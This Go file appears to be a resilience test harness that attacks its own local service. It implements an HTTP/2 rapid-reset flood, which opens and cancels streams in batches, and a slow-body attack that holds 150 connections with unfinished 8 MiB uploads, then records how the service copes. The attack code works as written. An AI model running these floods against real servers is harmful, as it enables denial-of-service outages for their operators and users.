package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	resetConnections = 8
	resetBatch       = 100 // streams between two looks at the time
	stalledBodies    = 150
	stalledBytes     = 8 * mib
	attackTime       = 8 * time.Second
)

func bodyOf(text string) io.Reader {
	if text == "" {
		return http.NoBody
	}
	return strings.NewReader(text)
}

// rapidReset opens and resets streams. A connection that the service closes is opened again.
func rapidReset(s *stage) {
	var streams, connections atomic.Int64
	s.attack(resetConnections, attackTime, func(ctx context.Context, _ int) error {
		for ctx.Err() == nil {
			connections.Add(1)
			resetStreams(ctx, s.services[0].addr, &streams)
			_ = pause(ctx, lookEvery) // the loop looks at ctx
		}
		return nil
	})
	s.note("%d streams were opened and reset on %d connections", streams.Load(), connections.Load())
}

// resetStreams opens and resets streams on one connection, until that breaks or ctx ends.
func resetStreams(ctx context.Context, address string, streams *atomic.Int64) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return
	}
	defer conn.Close() //nolint:errcheck // nothing is left to be written
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // until the connection is closed
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	var batch bytes.Buffer
	framer := http2.NewFramer(&batch, nil)
	if framer.WriteSettings() != nil {
		return
	}
	headers := fetchHeaders()
	for id := uint32(1); id < 1<<30; {
		for range resetBatch {
			_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true, EndStream: true})
			_ = framer.WriteRSTStream(id, http2.ErrCodeCancel) // a buffer takes all
			id += 2
		}
		if _, err := conn.Write(batch.Bytes()); err != nil {
			return
		}
		batch.Reset()
		streams.Add(resetBatch)
	}
}

// fetchHeaders are those of a fetch that waits.
func fetchHeaders() []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{
		{":method", "GET"}, {":scheme", "http"}, {":authority", "localhost"},
		{":path", "/v1/channels/chaos-0/subscribers/s0/messages?wait=20s"},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // a buffer takes all
	}
	return block.Bytes()
}

// stallBodies sends all but the last byte of a body on each connection.
func stallBodies(s *stage) {
	var refused atomic.Int64
	s.attack(stalledBodies, attackTime, func(ctx context.Context, number int) error {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", s.services[0].addr)
		if err != nil {
			refused.Add(1)
			return nil //nolint:nilerr // a refused connection is a good answer
		}
		defer conn.Close() //nolint:errcheck // nothing is left to be written
		defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
		if err := writeMost(conn, number); err != nil && ctx.Err() == nil {
			refused.Add(1)
			return nil //nolint:nilerr // so is one that the service closes
		}
		<-ctx.Done()
		return nil
	})
	now := s.resident()
	s.must(pause(s.ctx, 5*time.Second))
	s.note("the service closed %d of %d connections early, took %d MB, and %d MB 5 s later",
		refused.Load(), stalledBodies, now/mib, s.resident()/mib)
}

// writeMost writes a request short of its last byte.
func writeMost(conn net.Conn, number int) error {
	head := fmt.Sprintf("POST /v1/channels/stalled-%d/messages HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n",
		number, stalledBytes)
	if _, err := io.WriteString(conn, head); err != nil {
		return err
	}
	chunk := bytes.Repeat([]byte{' '}, 64<<10)
	for sent := 0; sent < stalledBytes-1; {
		n, err := conn.Write(chunk[:min(len(chunk), stalledBytes-1-sent)])
		if err != nil {
			return err
		}
		sent += n
	}
	return nil
}
